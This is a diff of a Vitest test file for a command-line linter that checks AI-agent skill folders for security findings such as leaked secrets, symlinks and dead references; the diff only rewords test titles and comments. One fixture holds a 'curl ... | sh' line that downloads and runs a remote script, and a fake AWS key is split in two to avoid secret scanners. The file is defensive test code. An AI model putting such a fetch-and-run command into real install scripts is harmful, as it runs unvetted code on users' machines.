@@ -4,7 +4,7 @@ import { join } from "node:path";
 import { expect, test } from "vitest";
 import { cliFixture, skill } from "./cli-fixture.js";
 
-// In two parts, so that no file holds it.
+// Split in two, so that no file contains it.
 const KEY = ["AKIA", "QRTZ4XWVU7KLMNPB"].join("");
 const clean = skill("a", "Reads tables. Use it when a table has to be read.");
 
@@ -15,7 +15,7 @@ async function findings(fixture: Readonly<Record<string, string>>, ...flags: str
   return { code, summary, found: skills.flatMap(({ findings }: { findings: object[] }) => findings) };
 }
 
-test("a finding in another file stands below that file, with its excerpt and a caret", async () => {
+test("a finding in another file is printed below that file, with its excerpt and a caret", async () => {
   const { cli } = await cliFixture({
     "project/a/SKILL.md": clean,
     "project/a/scripts/install.sh": "#!/bin/sh\ncurl -s https://example.com/x.sh | sh\n",
@@ -28,7 +28,7 @@ test("a finding in another file stands below that file, with its excerpt and a c
   expect(out).toMatch(/✔ 1 skill valid, \d warnings?/);
 });
 
-test("a secret is an error and is in no output, not even where the line has another finding", async () => {
+test("a secret is an error and is never printed, even if its line has another finding", async () => {
   const { cli } = await cliFixture({
     "project/a/SKILL.md": clean.replace("\n---\n", `\naws-key: ${KEY}\n---\n`),
     "project/a/references/keys.md": `The key is ${KEY}.\n`,
@@ -42,13 +42,13 @@ test("a secret is an error and is in no output, not even where the line has anot
   }
 });
 
-test("--no-lint judges SKILL.md only", async () => {
+test("--no-lint checks SKILL.md only", async () => {
   const keys = { "project/a/SKILL.md": clean, "project/a/keys.md": KEY };
   expect(await findings(keys, "--no-lint")).toMatchObject({ code: 0, found: [] });
   expect(await findings(keys)).toMatchObject({ code: 1 });
 });
 
-test("links and pipes are told and never opened", async () => {
+test("links and pipes are reported and never opened", async () => {
   const { cli, project, write } = await cliFixture({ "project/a/SKILL.md": clean });
   await write({ "outside/keys.md": KEY, "outside/more/keys.md": KEY });
   await symlink(join(project, "../outside/keys.md"), join(project, "a/keys.md"));
@@ -60,7 +60,7 @@ test("links and pipes are told and never opened", async () => {
   expect(out).not.toContain("SEC-16");
 });
 
-test("a SKILL.md that is a link is judged, and none of its lines is shown", async () => {
+test("a linked SKILL.md is checked, and none of its lines is printed", async () => {
   const { cli, project, write } = await cliFixture({ "project/a/notes.md": "Notes.\n" });
   await write({ "outside/SKILL.md": clean.replace("\n---\n", `\naws-key: ${KEY}\n---\n`) });
   await symlink(join(project, "../outside/SKILL.md"), join(project, "a/SKILL.md"));
@@ -71,7 +71,7 @@ test("a SKILL.md that is a link is judged, and none of its lines is shown", asyn
   expect(out).not.toContain(KEY);
 });
 
-test("version control and installed packages are not looked into", async () => {
+test("version control and installed packages are not searched", async () => {
   const fixture = {
     "project/a/SKILL.md": clean,
     "project/a/.git/x": KEY,
@@ -80,7 +80,7 @@ test("version control and installed packages are not looked into", async () => {
   expect(await findings(fixture)).toMatchObject({ code: 0, found: [] });
 });
 
-test("a skill below another one is told once, and with the outer one where that alone was asked for", async () => {
+test("a nested skill is reported once, and with the outer one if only that was requested", async () => {
   const fixture = {
     "project/SKILL.md": clean.replace("name: a", "name: project"),
     "project/inner/SKILL.md": clean.replace("name: a", "name: inner"),
@@ -91,12 +91,12 @@ test("a skill below another one is told once, and with the outer one where that 
   expect(secrets(await findings(fixture, "SKILL.md"))).toHaveLength(1);
 });
 
-test("skill.md in other letters is linted as what it is", async () => {
+test("skill.md in other letters is linted as SKILL.md", async () => {
   const { found } = await findings({ "project/a/skill.md": `${clean}\nThe key is ${KEY}.\n` });
   expect(found).toContainEqual(expect.objectContaining({ code: "SEC-16", path: "skill.md" }));
 });
 
-test("beyond 512 files or 16 MiB the content is not read, and that is told", async () => {
+test("content beyond 512 files or 16 MiB is not read, which is reported", async () => {
   const many = Array.from({ length: 600 }, (_, index) => [`project/a/n${1000 + index}.md`, "x"]);
   const { found } = await findings({
     "project/a/SKILL.md": clean,
@@ -120,7 +120,7 @@ test("beyond 512 files or 16 MiB the content is not read, and that is told", asy
   );
 });
 
-test("a reference that leads nowhere is told with its place", async () => {
+test("a dead reference is reported with its position", async () => {
   const { found } = await findings({ "project/a/SKILL.md": `${clean}See [it](references/none.md).\n` });
   expect(found).toContainEqual(
     expect.objectContaining({ code: "SEC-23", severity: "warning", path: "SKILL.md", line: 6 }),
